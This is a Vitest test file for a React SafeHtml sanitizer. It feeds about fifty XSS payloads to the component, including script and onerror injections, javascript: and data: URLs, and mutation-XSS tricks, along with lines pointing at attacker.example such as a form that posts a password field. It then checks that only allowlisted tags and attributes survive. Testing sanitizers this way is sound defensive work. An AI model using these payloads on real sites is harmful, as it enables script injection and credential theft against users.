import { render } from '@testing-library/react';
import { MemoryRouter } from 'react-router-dom';
import { describe, expect, it } from 'vitest';
import { SafeHtml } from './SafeHtml';

/** Attacks from OWASP's evasion cheat sheet, DOMPurify's tests and mutation XSS. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img data-media-id="1" src=x onerror=alert(1)>',
  '<img data-media-id="1" src="javascript:alert(1)">',
  '<img data-media-id="1" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://attacker.example/pixel.png">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<body onload=alert(1)>x</body>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//attacker.example">x</a>',
  '<a href="blob:https://attacker.example/1">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "javascript:alert(1)"; body{display:none}</style>',
  '<link rel="stylesheet" href="https://attacker.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://attacker.example/">',
  '<form action="https://attacker.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<div id="root" class="MuiDialog-root" name="cookie">x</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xss contenteditable onfocus=alert(1) tabindex=1>x</xss>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p><title></p><img src=x onerror=alert(1)></title>',
];

const ELEMENTS = new Set(
  'DIV,P,A,IMG,TABLE,TBODY,TR,TD,TH,STRONG,H2,UL,LI,SPAN,BR,THEAD,CODE,BLOCKQUOTE'.split(','),
);
const ATTRIBUTES = new Set(
  'href,target,rel,src,alt,width,height,title,data-media-id,loading,colspan,rowspan,class,role,tabindex,aria-label'.split(
    ',',
  ),
);

const renderHtml = (html: string): HTMLElement => {
  const { container } = render(<SafeHtml html={html} />, { wrapper: MemoryRouter });
  const root = container.firstElementChild;
  if (!(root instanceof HTMLElement)) throw new Error('Nothing is rendered');
  return root;
};

describe('SafeHtml', () => {
  it.each(ATTACKS)('is safe: %s', (html) => {
    for (const element of renderHtml(`<p>Before</p>${html}`).querySelectorAll('*')) {
      expect([...ELEMENTS], element.outerHTML).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect([...ATTRIBUTES], element.outerHTML).toContain(name);
        if (name === 'href') expect(value).toMatch(/^https:\/\//);
        if (name === 'src') expect(value).toMatch(/^http/);
        if (name === 'class') expect(value).toBe('table-frame');
      }
      expect(element.getAttribute('src') ?? '').not.toContain('attacker');
    }
  });

  it('keeps the markup of pages', () => {
    const root = renderHtml(
      '<h2>Rubrik</h2><p><strong>Fet</strong></p><ul><li>Ett</li></ul>' +
        '<p><a href="https://a.example/">Länk</a> <a href="mailto:a@b.example">Post</a> <a href="tel:+4670">Ring</a></p>' +
        '<p><img data-media-id="7" alt="En katt" width="40" height="30" src="/api/v2/files/9?sig=x"></p>' +
        '<table><tbody><tr><th>A</th><td colspan="2">B</td></tr></tbody></table>',
    );
    expect(root.querySelector('h2')).toHaveTextContent('Rubrik');
    expect([...root.querySelectorAll('a')].map(({ href, rel, target }) => [href, rel, target])).toEqual(
      ['https://a.example/', 'mailto:a@b.example', 'tel:+4670'].map((href) => [
        href,
        'noopener noreferrer',
        '_blank',
      ]),
    );
    const picture = root.querySelector('img');
    expect(picture).toHaveAttribute('alt', 'En katt');
    expect(picture).toHaveAttribute('data-media-id', '7');
    expect(picture).toHaveAttribute('src', 'http://localhost:3000/api/v2/files/9?sig=x');
    expect(root.querySelector('.table-frame > table td')).toHaveAttribute('colspan', '2');
  });

  it('keeps the company of the tab in links to pages, which open in the same one', () => {
    window.history.replaceState(null, '', '/c/7/my-pages/1');
    const link = renderHtml('<p><a href="/my-pages/3">Sida</a></p>').querySelector('a');
    window.history.replaceState(null, '', '/');
    expect(link).toHaveAttribute('href', '/c/7/my-pages/3');
    expect(link).not.toHaveAttribute('target');
  });
});
